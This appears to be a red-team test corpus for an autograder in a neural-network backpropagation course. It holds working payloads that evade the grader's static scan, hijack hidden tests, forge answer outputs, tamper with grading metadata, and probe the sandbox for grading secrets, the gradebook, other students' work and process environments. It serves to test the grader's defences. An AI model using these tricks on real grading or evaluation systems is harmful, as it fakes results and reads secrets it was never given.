"""Red-team corpus: attempts to score without doing the work (ATTACKS), and right answers written in
unusual learner styles (RIGHT). Each entry:

    {"lesson": "<lesson folder>",
     "answers": {grade_id: code typed under the answer cell's placeholder},
     "extra_cells": [(where, code_or_cell)],   # where: int index, "before:<grade_id>", "after:<grade_id>", "end";
                                              # code_or_cell: source, or {"source": ..., "metadata": {...}}
     "metadata_edits": {grade_id: {nbgrader key: value}},   # merged into that cell's nbgrader metadata
     "cell_ops": [("duplicate", grade_id), ("delete", grade_id)],
     "what": "one sentence", "expect": "0" | "review" | "full"}

Grade them with `build_course(folder, entries)` then `make grade COURSE=folder GRADE_ARGS="--jobs 2"`
(student id = entry name). Not collected by pytest (no test functions).
"""

import copy
import json
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
NB = {
    "01": "01_chain_rule_building_blocks/chain_rule_building_blocks.ipynb",
    "02": "02_scalar_autograd_engine/scalar_autograd_engine.ipynb",
    "03": "03_mlp_by_hand_digits/mlp_by_hand_digits.ipynb",
    "04": "04_makemore_atomic_backprop/makemore_atomic_backprop.ipynb",
    "05": "05_makemore_fused_cross_entropy/makemore_fused_cross_entropy.ipynb",
    "06": "06_makemore_fused_batchnorm/makemore_fused_batchnorm.ipynb",
    "07": "07_makemore_training/makemore_training.ipynb",
    "08": "08_capstone_autograd_function/capstone_autograd_function.ipynb",
}
LESSON = {k: v.split("/")[0] for k, v in NB.items()}

# Exercise 1's 26 gradients: answer cell grade_id -> the name autograd_gradients keys it by
EX1 = ["logprobs", "probs", "counts_sum_inv", "counts_sum", "counts", "norm_logits", "logit_maxes", "logits",
       "h", "W2", "b2", "hpreact", "bngain", "bnbias", "bnraw", "bnvar_inv", "bnvar", "bndiff2", "bndiff",
       "bnmeani", "hprebn", "embcat", "W1", "b1", "emb", "C"]


def ex1_from(table: str, names=EX1) -> dict:
    """Every Exercise 1 answer read from a dict `table` the attack built in the kernel."""
    return {f"answer_d{k}": f'd{k} = {table}["{k}"]' for k in names}


# ---------------------------------------------------------------------------------------------------
# Payloads. The scan (checker/rules.py) treats a name bound in a function/lambda/comprehension/class
# scope as "the learner's own", and visits default values and a comprehension's first iterable inside
# that scope, although Python evaluates them in the enclosing scope: `def f(torch=torch)` is the real
# torch module under a "local" name, and nothing rooted at it is followed.

AG_DEFAULT_ARG = '''
def _autograd_table(makemore=makemore, setup=setup, torch=torch):
    return makemore.autograd_gradients(setup.params, setup.Xb, setup.Yb, torch.float32)
_G = _autograd_table()
'''

AG_LAMBDA = '''
_G = (lambda makemore=makemore, setup=setup, torch=torch:
      makemore.autograd_gradients(setup.params, setup.Xb, setup.Yb, torch.float32))()
'''

AG_COMPREHENSION = '''
_mm = [makemore for makemore in [makemore]][0]      # the module, under a name the scan does not know
_tt = [torch for torch in [torch]][0]
_G = _mm.autograd_gradients(setup.params, setup.Xb, setup.Yb, _tt.float32)
'''

AG_CLASS_BODY = '''
class _Tools:
    makemore = makemore
    torch = torch
_G = _Tools.makemore.autograd_gradients(setup.params, setup.Xb, setup.Yb, _Tools.torch.float32)
'''

# getattr/setattr smuggled in as default values: plain `.grad`/`.backward()` by name strings
AG_GETATTR = '''
def _get(obj, name, getattr=getattr):
    return getattr(obj, name)

def _set(obj, name, value, setattr=setattr):
    setattr(obj, name, value)

_p = {k: v.detach().clone() for k, v in setup.params.items()}
for _t in _p.values():
    _set(_t, "requires" + "_grad", True)
_c = makemore.forward(_p, setup.Xb, setup.Yb)
for _k, _t in _c.items():
    if _k != "loss":
        _get(_t, "retain" + "_grad")()
_get(_c["loss"], "back" + "ward")()
_G = {k: _get(t, "gr" + "ad").detach() for k, t in {**_p, **_c}.items() if k != "loss"}
'''

# exec smuggled in: the real code is a reversed string, never seen by the scan
_HIDDEN_SRC = ('import torch\n'
               '_p = {k: v.detach().clone().requires_grad_() for k, v in setup.params.items()}\n'
               '_c = makemore.forward(_p, setup.Xb, setup.Yb)\n'
               '[t.retain_grad() for k, t in _c.items() if k != "loss"]\n'
               '_c["loss"].backward()\n'
               '_G = {k: t.grad.detach() for k, t in {**_p, **_c}.items() if k != "loss"}\n')
AG_EXEC = f'''
def _run(code, exec=exec, globals=globals):
    exec(code, globals())
_run({_HIDDEN_SRC[::-1]!r}[::-1])
'''

# a cell the learner adds, marked locked in its metadata: rules.is_course_cell takes it for the course's
LOCKED_PLAIN = {"source": '''# looks like a course cell
_p = {k: v.detach().clone().requires_grad_() for k, v in setup.params.items()}
_c = makemore.forward(_p, setup.Xb, setup.Yb)
for _k, _t in _c.items():
    if _k != "loss":
        _t.retain_grad()
_c["loss"].backward()
_G = {k: t.grad.detach() for k, t in {**_p, **_c}.items() if k != "loss"}
''', "metadata": {"nbgrader": {"locked": True, "solution": False, "grade": False, "schema_version": 3}}}

# match/case binds names without an ast.Name Store node: it rebinds the hidden test's own `exec`, and
# the hidden test then hands in the autograd answer whatever the notebook's variable holds (None here).
HIJACK_HIDDEN_TEST = AG_DEFAULT_ARG + '''
def _exec_hidden(src, ns, exec=exec, _G=_G):
    exec(src, ns)
    real = ns["hidden_check"]
    def hidden_check(exercise, label, yours, real=real, _G=_G):
        key = label[1:] if label[:1] == "d" else label
        return real(exercise, label, _G.get(key, yours))
    ns["hidden_check"] = hidden_check

match _exec_hidden:
    case exec:
        pass
'''

# a post_run_cell hook (get_ipython smuggled in as a default) hands in a forged answer after each
# check cell ran: the judge takes the last answer output of the cell (judge.py: mine[-1])
HOOK_FORGE = AG_DEFAULT_ARG + '''
def _install(get_ipython=get_ipython, checker=checker, _G=_G):
    ip = get_ipython()
    def after(result, ip=ip, checker=checker, _G=_G):
        src = result.info.raw_cell
        if "hidden_check" not in src:
            return
        label = src.split('ex.check("')[1].split('"')[0]
        data = checker.handout.encode(_G[label[1:]])
        ip.display_pub.publish({"application/vnd.backprop-ninja.answer+json":
                                {"exercise": "exercise1", "label": label, "answer": data},
                                "text/plain": "forged"})
    ip.events.register("post_" + "run_cell", after)
_install()
'''

# numerical differentiation through the lesson's own forward pass, float64 central differences
NUMDIFF_04 = '''
def _numgrad(f, x, h=1e-6):
    x = x.double().clone()
    g = torch.zeros_like(x)
    flat, gflat = x.view(-1), g.view(-1)
    for i in range(flat.numel()):
        old = flat[i].item()
        flat[i] = old + h; fp = f(x).item()
        flat[i] = old - h; fm = f(x).item()
        flat[i] = old
        gflat[i] = (fp - fm) / (2 * h)
    return g.float()

_Y = Yb
_loss_of_logprobs = lambda lp: -lp[range(n), _Y].mean()
_loss_of_probs = lambda p: _loss_of_logprobs(p.log())
_loss_of_logits = lambda z: _loss_of_logprobs(z.log_softmax(1))
_W2d, _b2d = W2.double(), b2.double()
_loss_of_h = lambda hh: _loss_of_logits(hh @ _W2d + _b2d)
_hd = h.double()
_loss_of_W2 = lambda w: _loss_of_logits(_hd @ w + _b2d)
_loss_of_b2 = lambda b: _loss_of_logits(_hd @ _W2d + b)
'''
NUMDIFF_04_ANSWERS = {
    "answer_dlogprobs": "dlogprobs = _numgrad(_loss_of_logprobs, logprobs)",
    "answer_dprobs": "dprobs = _numgrad(_loss_of_probs, probs)",
    "answer_dlogits": "dlogits = _numgrad(_loss_of_logits, logits)",
    "answer_dh": "dh = _numgrad(_loss_of_h, h)",
    "answer_dW2": "dW2 = _numgrad(_loss_of_W2, W2)",
    "answer_db2": "db2 = _numgrad(_loss_of_b2, b2)",
}

# error carried forward from an upstream answer so small that any tiny noise is "right given it"
ECF_TINY = {"answer_dlogprobs": "dlogprobs = 1e-30 * torch.randn_like(logprobs)"}
ECF_TINY.update({f"answer_d{k}": f"d{k} = 1e-30 * torch.randn_like({k})" for k in EX1[1:]})

ECF_TINY_SIGNED = {"answer_dlogprobs": "dlogprobs = torch.zeros_like(logprobs); dlogprobs[range(n), Yb] = -1e-30"}
ECF_TINY_SIGNED.update({f"answer_d{k}": f"d{k} = 1e-32 * torch.randn_like({k})" for k in EX1[1:]})

# --- lesson 1: torch.autograd.functional through a comprehension alias --------------------------
L01_VJP = '''
_af = [torch for torch in [torch]][0].autograd.functional
def _vjp(f, inputs, v):
    return _af.vjp(f, inputs, v)[1]
'''
L01_VJP_ANSWERS = {
    "answer_scalar": "du = 3\ndx = _vjp(lambda t: 3 * t**2 + 9, x, torch.ones_like(x))",
    "answer_graph": ("_gr = _vjp(lambda e_, f_, g_: (2 * e_ + 3 * f_) * g_, (e, f, g), torch.ones_like(e))\n"
                     "de, df, dg = _gr\ndq = g\ndm = dn = dq"),
    "answer_dot": "da, db = _vjp(lambda a_, b_: a_ @ b_, (a, b), ds)",
    "answer_outer": "dh, dk = _vjp(torch.outer, (h, k), dM)",
    "answer_matvec": "dA, dv = _vjp(lambda A_, v_: A_ @ v_, (A, v), dy)",
    "answer_matmul": "dX, dW = _vjp(lambda X_, W_: X_ @ W_, (X, W), dY)",
    "answer_softmax_jacobian": "J = _af.jacobian(lambda t: t.softmax(0), z)\ndz = _vjp(lambda t: t.softmax(0), z, dp)",
    "answer_softmax": "dZ = _vjp(lambda t: t.softmax(1), Z, dP)",
    "answer_cross_entropy": "dlogits = _vjp(lambda t: F.cross_entropy(t, target), logits, torch.tensor(1.0))",
    "answer_batch_cross_entropy": "dQ = _vjp(lambda t: F.cross_entropy(t, C), Q, torch.tensor(1.0))",
    "answer_soft_cross_entropy": ("Ysoft = (1 - eps) * F.one_hot(Cv, K) + eps / K\n"
                                  "dV = _vjp(lambda t: F.cross_entropy(t, Cv, label_smoothing=eps), V, torch.tensor(1.0))"),
    "answer_focal": ("def focal_grad(G, Cg, gamma):\n"
                     "    return _vjp(lambda t: chain_rule.focal_loss(t, Cg, gamma), G, torch.tensor(1.0))"),
    "answer_hinge": "dS = _vjp(lambda t: chain_rule.multiclass_hinge(t, T), S, torch.tensor(1.0))",
    "answer_mse": "dyhat = _vjp(lambda t: (t - ytrue).pow(2).mean(), yhat, torch.tensor(1.0))",
}

# --- lesson 2: a Value that is torch underneath (torch is forbidden in lesson 2) -----------------
L02_TORCH_VALUE = '''
_T = [torch for torch in [torch]][0]      # torch, which lesson 2 forbids, under a name the scan ignores

class Value:
    def __init__(self, data, _children=(), _op="", _t=None):
        self._t = _t if _t is not None else _T.tensor(float(data), dtype=_T.float64, requires_grad=True)
        self.data = self._t.item()
        self.grad = 0.0
        self._prev = _children
        self._op = _op
        self._backward = lambda: None

    def _apply(self, f, children, op):
        leaves = [c._t.detach().requires_grad_(True) for c in children]   # one fresh leaf per operand
        t = f(*leaves)
        out = Value(0.0, tuple(children), op, _t=t)
        def _backward():
            gs = _T.autograd.grad(t, leaves, grad_outputs=_T.tensor(float(out.grad), dtype=_T.float64),
                                  retain_graph=True, allow_unused=True)
            for c, g in zip(children, gs):
                if g is not None:
                    c.grad += g.item()
        out._backward = _backward
        return out

    def _v(self, other):
        return other if isinstance(other, Value) else Value(other)

    def __add__(self, other):
        return self._apply(lambda x, y: x + y, (self, self._v(other)), "+")

    def __mul__(self, other):
        return self._apply(lambda x, y: x * y, (self, self._v(other)), "*")

    def __pow__(self, k):
        return self._apply(lambda x: x ** k, (self,), f"**{k}")

    def __neg__(self):
        return self * -1

    def __sub__(self, other):
        return self + (-self._v(other))

    def __radd__(self, other):
        return self + other

    def __rmul__(self, other):
        return self * other

    def __rsub__(self, other):
        return self._v(other) - self

    def __truediv__(self, other):
        return self * self._v(other) ** -1

    def relu(self):
        return self._apply(lambda x: x.clamp(min=0), (self,), "relu")

    def tanh(self):
        return self._apply(lambda x: x.tanh(), (self,), "tanh")

    def __repr__(self):
        return f"Value(data={self.data:.4g}, grad={self.grad:.4g})"
'''
L02_TORCH_BACKWARD = '''
def backward(self):
    topo, seen = [], set()
    def build(v):
        if id(v) not in seen:
            seen.add(id(v))
            for c in v._prev:
                build(c)
            topo.append(v)
    build(self)
    self.grad = 1.0
    for v in reversed(topo):
        v._backward()
'''

# --- lesson 3: vjp through a default-argument alias ----------------------------------------------
L03_VJP = '''
def _vjp(f, inputs, v, torch=torch):
    return torch.autograd.functional.vjp(f, inputs, v)[1]
'''
L03_VJP_ANSWERS = {
    "answer_mse_grad": ("def mse_grad(out, targ):\n"
                        "    return _vjp(lambda o: (o.squeeze(-1) - targ).pow(2).mean(), out, torch.tensor(1.0))"),
    "answer_lin_grad": ("def lin_grad(x, w, b, dout):\n"
                        "    return _vjp(lambda x_, w_, b_: x_ @ w_ + b_, (x, w, b), dout)"),
    "answer_relu_grad": ("def relu_grad(inp, dout):\n"
                         "    return _vjp(lambda t: t.clamp_min(0.0), inp, dout)"),
}

# --- lesson 8: the Functions' backward by autograd, through a class-body alias --------------------
L08_VJP = '''
class _A:
    torch = torch
def _vjp(f, inputs, v):
    return _A.torch.autograd.functional.vjp(f, inputs, v)[1]
'''
L08_VJP_ANSWERS = {
    "answer_tanh": '''class Tanh(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x):
        ctx.save_for_backward(x)
        return torch.tanh(x)

    @staticmethod
    def backward(ctx, dy):
        (x,) = ctx.saved_tensors
        return _vjp(torch.tanh, x, dy)''',
    "answer_linear": '''class Linear(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, weight, bias):
        ctx.save_for_backward(x, weight, bias)
        return x @ weight + bias

    @staticmethod
    def backward(ctx, dout):
        return _vjp(lambda a, w, b: a @ w + b, ctx.saved_tensors, dout)''',
    "answer_batchnorm": '''def _bn(x, gain, bias):
    return gain * (x - x.mean(0, keepdim=True)) * (x.var(0, keepdim=True, unbiased=True) + 1e-5) ** -0.5 + bias

class BatchNorm1dBessel(torch.autograd.Function):
    @staticmethod
    def forward(ctx, x, gain, bias):
        ctx.save_for_backward(x, gain, bias)
        return _bn(x, gain, bias)

    @staticmethod
    def backward(ctx, dout):
        return _vjp(_bn, ctx.saved_tensors, dout)''',
    "answer_cross_entropy": '''class CrossEntropy(torch.autograd.Function):
    @staticmethod
    def forward(ctx, logits, targets):
        ctx.save_for_backward(logits, targets)
        return F.cross_entropy(logits, targets)

    @staticmethod
    def backward(ctx, dloss):
        logits, targets = ctx.saved_tensors
        return _vjp(lambda z: F.cross_entropy(z, targets), logits, dloss), None''',
}

# --- lesson 7 -------------------------------------------------------------------------------------
L07_BACKWARD_JACOBIAN = '''def backward(params, cache, torch=torch, training=training):
    names = ("C", "W1", "b1", "W2", "b2", "bngain", "bnbias")
    def loss_of(*ps):
        return training.forward(dict(zip(names, ps)), cache["Xb"], cache["Yb"])["loss"]
    return tuple(torch.autograd.functional.jacobian(loss_of, tuple(params[k] for k in names)))
def embedding_backward(demb, Xb, vocab_size):
    dC = torch.zeros((vocab_size, demb.shape[-1]))
    dC.index_add_(0, Xb.view(-1), demb.view(-1, demb.shape[-1]))
    return dC'''

# only the last layer trained, by Exercise 2's two-line dlogits: does "trained" follow?
L07_LAST_LAYER_ONLY = '''def backward(params, cache):
    W2 = params["W2"]
    n = cache["Xb"].shape[0]
    dlogits = F.softmax(cache["logits"], 1)
    dlogits[range(n), cache["Yb"]] -= 1
    dlogits /= n
    z = lambda p: torch.zeros_like(p)
    return (z(params["C"]), z(params["W1"]), z(params["b1"]), cache["h"].T @ dlogits, dlogits.sum(0),
            z(params["bngain"]), z(params["bnbias"]))'''


def _pasted_params_cell() -> str:
    """Parameters trained outside the notebook (autograd, lecture seed), pasted in as hex: the cell
    after training replaces `params`, which the hidden test of check_training hands in."""
    path = HERE / "attack_params.hex.json"
    blobs = json.loads(path.read_text()) if path.exists() else {}
    lines = ["import numpy as np", "_hex = {"]
    lines += [f"    {k!r}: ({v['shape']!r}, {v['hex']!r})," for k, v in blobs.items()]
    lines += ["}",
              "params = {k: torch.tensor(np.frombuffer(bytes.fromhex(hx), dtype=np.float32).copy()).view(*shape)",
              "          for k, (shape, hx) in _hex.items()}"]
    return "\n".join(lines)



# reconnaissance from inside a graded kernel (exec smuggled in as a default): what can it read?
RECON_SRC = r"""
import os, glob, pathlib
def _try(label, f):
    try:
        print(label, "->", repr(f())[:200])
    except Exception as e:
        print(label, "-> refused:", type(e).__name__, str(e)[:80])
_cwd = pathlib.Path.cwd()
print("cwd", _cwd)
print("env", {k: v for k, v in os.environ.items() if "BACKPROP" in k or "JPY" in k})
for up in [_cwd] + list(_cwd.parents)[:5]:
    _try(f"list {up}", lambda up=up: sorted(os.listdir(up))[:20])
    _try(f"secret {up}", lambda up=up: (up / ".grading_secret").read_text())
_try("gradebook", lambda: open(str(_cwd.parents[2] / "gradebook.db"), "rb").read(16))
_try("other students", lambda: glob.glob(str(_cwd.parents[2] / "submitted" / "*")))
_try("solutions", lambda: glob.glob(str(_cwd.parents[2] / "solutions" / "*" / "*")))
_try("proc 1 environ", lambda: open("/proc/1/environ", "rb").read(100))
_try("parent cmdline", lambda: open(f"/proc/{os.getppid()}/cmdline", "rb").read(200))
_try("home", lambda: os.listdir(os.path.expanduser("~"))[:20])
_try("tmp", lambda: os.listdir("/tmp")[:30])
import socket
_try("tcp", lambda: socket.create_connection(("127.0.0.1", 22), timeout=2))
_try("write outside", lambda: open("/tmp/backprop_attack_was_here", "w").write("x"))
"""
RECON = f"""
def _run(code, exec=exec):
    exec(code, {{}})
_run({RECON_SRC!r})
"""


# ---------------------------------------------------------------------------------------------------
ATTACKS = {
    # lesson 4 (Exercise 1): the static scan's blind spots --------------------------------------------
    "a04_default_arg_alias": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", AG_DEFAULT_ARG)],
        "what": "makemore.autograd_gradients through a default argument named like the module (def f(makemore=makemore))",
        "expect": "0"},
    "a04_lambda_default": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", AG_LAMBDA)],
        "what": "the same through a lambda's default values", "expect": "0"},
    "a04_comprehension_alias": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", AG_COMPREHENSION)],
        "what": "the module taken out under a new name by [makemore for makemore in [makemore]][0]", "expect": "0"},
    "a04_class_body_alias": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", AG_CLASS_BODY)],
        "what": "the module kept as a class attribute (class K: makemore = makemore) and reached as K.makemore", "expect": "0"},
    "a04_getattr_default": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", AG_GETATTR)],
        "what": "getattr/setattr as default values: requires_grad, retain_grad, backward and .grad by name strings", "expect": "0"},
    "a04_exec_default": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", AG_EXEC)],
        "what": "exec and globals as default values, running a reversed string of plain autograd code", "expect": "0"},
    "a04_locked_added_cell": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"), "extra_cells": [("before:answer_dlogprobs", LOCKED_PLAIN)],
        "what": "plain .backward()/.grad in a cell the learner added and marked nbgrader.locked in its metadata", "expect": "0"},
    "a04_locked_answer_cell": {
        "lesson": LESSON["04"],
        "answers": {**ex1_from("_G"), "answer_dlogprobs": LOCKED_PLAIN["source"] + 'dlogprobs = _G["logprobs"]'},
        "metadata_edits": {"answer_dlogprobs": {"locked": True}},
        "what": "plain autograd in the first answer cell, its metadata switched to locked", "expect": "0"},
    "a04_hijack_hidden_test": {
        "lesson": LESSON["04"], "answers": {}, "extra_cells": [("before:answer_dlogprobs", HIJACK_HIDDEN_TEST)],
        "what": "match/case rebinds `exec`, so each hidden test hands in autograd's answer while every answer variable stays None",
        "expect": "0"},
    "a04_hook_forged_handin": {
        "lesson": LESSON["04"], "answers": {}, "extra_cells": [("before:answer_dlogprobs", HOOK_FORGE)],
        "what": "a post_run_cell hook publishes a forged answer output after each check cell's hidden test (answers left blank)",
        "expect": "0"},
    "a04_numdiff": {
        "lesson": LESSON["04"], "answers": NUMDIFF_04_ANSWERS, "extra_cells": [("before:answer_dlogprobs", NUMDIFF_04)],
        "what": "float64 central differences through the lesson's forward pass for 6 gradients (others blank)",
        "expect": "review"},
    "a04_ecf_tiny_noise": {
        "lesson": LESSON["04"], "answers": ECF_TINY,
        "what": "every answer 1e-30 times noise: each step 'right given' a negligible upstream?", "expect": "0"},
    "a04_ecf_tiny_signed": {
        "lesson": LESSON["04"], "answers": ECF_TINY_SIGNED,
        "what": "dlogprobs with the right pattern but 1e-30 instead of 1/n, then noise 100x smaller everywhere", "expect": "0"},
    "a04_plain_backward_control": {
        "lesson": LESSON["04"], "answers": ex1_from("_G"),
        "extra_cells": [("before:answer_dlogprobs", LOCKED_PLAIN["source"])],
        "what": "control: the same autograd code in an ordinary added cell", "expect": "0"},
    "a04_metadata_bonus_cell": {
        "lesson": LESSON["04"], "answers": {},
        "extra_cells": [("end", {"source": "print('bonus')", "metadata": {"nbgrader": {
            "grade": True, "grade_id": "check_bonus", "points": 50, "locked": False, "solution": False,
            "schema_version": 3}}})],
        "what": "an added graded cell worth 50 points that cannot fail", "expect": "0"},
    "a04_metadata_points_dup": {
        "lesson": LESSON["04"], "answers": {"answer_dlogit_maxes": "dlogit_maxes = torch.zeros_like(logit_maxes)"},
        "metadata_edits": {"check_dlogit_maxes": {"points": 100}},
        "cell_ops": [("duplicate", "check_dlogit_maxes"), ("duplicate", "check_dlogit_maxes")],
        "what": "the one always-zero gradient's check set to 100 points and duplicated twice", "expect": "0"},
    "a04_partial_credit_number": {
        "lesson": LESSON["04"], "answers": {},
        "extra_cells": [("after:check_dlogprobs", {"source": "1.0", "metadata": {"nbgrader": {
            "grade": True, "grade_id": "check_dlogprobs", "points": 1, "locked": True, "solution": False,
            "schema_version": 3}}})],
        "what": "a second cell with check_dlogprobs's grade_id that just returns 1.0 (partial credit read from a number)",
        "expect": "0"},
    # lesson 5, 6 -------------------------------------------------------------------------------------
    "a05_default_arg_alias": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": AG_DEFAULT_ARG + 'dlogits = _G["logits"]'},
        "what": "Exercise 2's dlogits from makemore.autograd_gradients via a default argument", "expect": "0"},
    "a05_numdiff": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": '''_z = logits.double().clone()
dlogits = torch.zeros_like(_z)
_h = 1e-6
for _i in range(_z.shape[0]):
    for _j in range(_z.shape[1]):
        _old = _z[_i, _j].item()
        _z[_i, _j] = _old + _h; _fp = F.cross_entropy(_z, Yb).item()
        _z[_i, _j] = _old - _h; _fm = F.cross_entropy(_z, Yb).item()
        _z[_i, _j] = _old
        dlogits[_i, _j] = (_fp - _fm) / (2 * _h)
dlogits = dlogits.float()'''},
        "what": "dlogits by float64 central differences of F.cross_entropy", "expect": "review"},
    "a06_class_body_alias": {
        "lesson": LESSON["06"], "answers": {
            "answer_dbngain": AG_CLASS_BODY + 'dbngain = _G["bngain"]',
            "answer_dbnbias": 'dbnbias = _G["bnbias"]', "answer_dhprebn": 'dhprebn = _G["hprebn"]'},
        "what": "Exercise 3 from makemore.autograd_gradients through a class-body alias", "expect": "0"},
    "a06_numdiff": {
        "lesson": LESSON["06"], "answers": {
            "answer_dbngain": "dbngain = (bnraw * dhpreact).sum(0, keepdim=True)",
            "answer_dbnbias": "dbnbias = dhpreact.sum(0, keepdim=True)",
            "answer_dhprebn": '''def _bn(x):
    return bngain.double() * (x - x.mean(0, keepdim=True)) / torch.sqrt(x.var(0, keepdim=True) + 1e-5) + bnbias.double()
_x, _u = hprebn.double().clone(), dhpreact.double()
dhprebn = torch.zeros_like(_x)
for _i in range(_x.shape[0]):
    for _j in range(_x.shape[1]):
        _old = _x[_i, _j].item()
        _x[_i, _j] = _old + 1e-6; _fp = (_bn(_x) * _u).sum().item()
        _x[_i, _j] = _old - 1e-6; _fm = (_bn(_x) * _u).sum().item()
        _x[_i, _j] = _old
        dhprebn[_i, _j] = (_fp - _fm) / 2e-6
dhprebn = dhprebn.float()'''},
        "what": "dhprebn (2 of 4 points) by central differences of the one-line batchnorm against dhpreact", "expect": "review"},
    # lesson 1, 2, 3, 8 -------------------------------------------------------------------------------
    "a01_vjp_comprehension_alias": {
        "lesson": LESSON["01"], "answers": L01_VJP_ANSWERS, "extra_cells": [("before:answer_scalar", L01_VJP)],
        "what": "every lesson 1 gradient by torch.autograd.functional.vjp/jacobian, torch taken out by a comprehension", "expect": "0"},
    "a02_torch_value_alias": {
        "lesson": LESSON["02"], "answers": {"answer_value": L02_TORCH_VALUE, "answer_backward": L02_TORCH_BACKWARD},
        "what": "lesson 2's Value is a torch tensor underneath (torch as a default argument) and backward is torch's", "expect": "0"},
    "a01_locked_answer_cells": {
        "lesson": LESSON["01"],
        "answers": {"answer_dot": "_a, _b = a.clone().requires_grad_(), b.clone().requires_grad_()\n(_a @ _b * ds).backward()\nda, db = _a.grad, _b.grad",
                    "answer_matmul": "_X, _W = X.clone().requires_grad_(), W.clone().requires_grad_()\n((_X @ _W) * dY).sum().backward()\ndX, dW = _X.grad, _W.grad"},
        "metadata_edits": {"answer_dot": {"locked": True}, "answer_matmul": {"locked": True}},
        "what": "plain requires_grad_/.backward()/.grad in two answer cells whose metadata says locked: true", "expect": "0"},
    "a03_vjp_default_arg": {
        "lesson": LESSON["03"], "answers": L03_VJP_ANSWERS, "extra_cells": [("before:answer_mse_grad", L03_VJP)],
        "what": "mse_grad, lin_grad and relu_grad by torch.autograd.functional.vjp through a default argument", "expect": "0"},
    "a08_vjp_class_alias": {
        "lesson": LESSON["08"], "answers": L08_VJP_ANSWERS, "extra_cells": [("before:answer_tanh", L08_VJP)],
        "what": "each Function's backward is autograd's vjp of its own forward, torch.autograd.functional via a class attribute",
        "expect": "0"},
    "a08_vjp_plain_control": {
        "lesson": LESSON["08"], "answers": L08_VJP_ANSWERS,
        "extra_cells": [("before:answer_tanh", "def _vjp(f, inputs, v):\n    return torch.autograd.functional.vjp(f, inputs, v)[1]")],
        "what": "control: the same with torch.autograd.functional.vjp written out", "expect": "0"},
    "a04_recon_sandbox": {
        "lesson": LESSON["04"], "answers": {}, "extra_cells": [("before:answer_dlogprobs", RECON)],
        "what": "reconnaissance: env, course folder, grading secret, other submissions, /proc, network, writes outside",
        "expect": "0"},
    "a05_tensor_subclass_answer": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": '''class _Always(torch.Tensor):
    def __eq__(self, other):
        return torch.ones_like(other, dtype=torch.bool)
    def allclose(self, *args, **kwargs):
        return True
dlogits = torch.zeros_like(logits).as_subclass(_Always)'''},
        "what": "a Tensor subclass of zeros whose == and allclose always say yes", "expect": "0"},
    "a05_float64_answer": {
        "lesson": LESSON["05"], "answers": {"answer_dlogits": (
            "dlogits = (F.softmax(logits.double(), 1) - F.one_hot(Yb, 27).double()) / n")},
        "what": "the right formula left in float64 (a dtype that compares equal): scored or refused?", "expect": "review"},
    "a03_eval_helpers_alias": {
        "lesson": LESSON["03"], "solutions_for_rest": True,
        "answers": {
            "answer_confusion": (
                "def _de():  # looked up when called: the lesson imports digits_evaluation in the cell after this one\n"
                "    return [digits_evaluation for digits_evaluation in [digits_evaluation]][0]\n"
                "def confusion(scores, labels, threshold):\n    return _de().confusion_counts(scores, labels, threshold)\n"
                "def precision_recall_f1(tp, fp, fn):\n    return _de().precision_recall_f1_of(tp, fp, fn)"),
            "answer_roc_auc": ("def roc_curve(scores, labels):\n    return _de().roc_points(scores, labels)\n"
                               "def auc_pairs(scores, labels):\n    return _de().roc_area(scores, labels)\n"
                               "auc_ranks = auc_pairs")},
        "what": "lesson 3's five evaluation functions are the checker's own reference helpers (confusion_counts, roc_points, roc_area), via a comprehension alias",
        "expect": "0"},
    "a07_copy_faststep": {
        "lesson": LESSON["07"], "solutions_for_rest": True,
        "answers": {"answer_backward": '''def backward(params, cache):
    # transcribed from the lesson's own `source(training.FastStep)` cell ("going further")
    C, W1, b1, W2, b2, bngain, bnbias = params.values()
    Xb, Yb, h, bnraw, bnvar_inv = cache["Xb"], cache["Yb"], cache["h"], cache["bnraw"], cache["bnvar_inv"]
    n = Xb.shape[0]
    dlogits = torch.log_softmax(cache["logits"], 1).exp()
    dlogits[range(n), Yb] -= 1
    dlogits /= n
    dh = F.linear(dlogits, W2)
    dW2, db2 = h.T @ dlogits, dlogits.sum(0)
    dhpreact = torch.addcmul(dh, dh * h, h, value=-1)
    dbnbias = dhpreact.sum(0, keepdim=True)
    dbngain = (dhpreact * bnraw).sum(0, keepdim=True)
    dhprebn = torch.addcmul(dhpreact - dbnbias / n, bnraw, dbngain, value=-1 / (n - 1)) * (bnvar_inv * bngain)
    dembcat = F.linear(dhprebn, W1)
    dW1, db1 = cache["embcat"].T @ dhprebn, dhprebn.sum(0)
    dC = torch.zeros_like(C).index_add_(0, Xb.view(-1), dembcat.view(-1, C.shape[1]))
    return dC, dW1, db1, dW2, db2, dbngain, dbnbias'''},
        "what": "Exercise 4's backward copied from FastStep, whose source the lesson itself prints (it also holds Exercises 2 and 3's answers)",
        "expect": "review"},
    # lesson 7 -----------------------------------------------------------------------------------------
    "a07_backward_jacobian_alias": {
        "lesson": LESSON["07"], "answers": {"answer_backward": L07_BACKWARD_JACOBIAN},
        "what": "backward(params, cache) is torch.autograd.functional.jacobian of training.forward's loss (torch as a default)",
        "expect": "0"},
    "a07_pasted_trained_params": {
        "lesson": LESSON["07"], "answers": {},
        "extra_cells": [("after:code_018", _pasted_params_cell())],
        "what": "params trained at home by loss.backward() (lecture seed), pasted as hex after the training cell; no backward written",
        "expect": "0"},
    "a07_last_layer_only": {
        "lesson": LESSON["07"], "answers": {"answer_backward": L07_LAST_LAYER_ONLY},
        "what": "backward returns only dW2, db2 (zeros elsewhere): is training alone enough for check_training?", "expect": "0"},
}


# ---------------------------------------------------------------------------------------------------
# Right answers in unusual learner styles: every one must get full marks, unflagged.
R04 = {
    "answer_dlogprobs": "dlogprobs = -F.one_hot(Yb, num_classes=logprobs.shape[1]).float() / n",
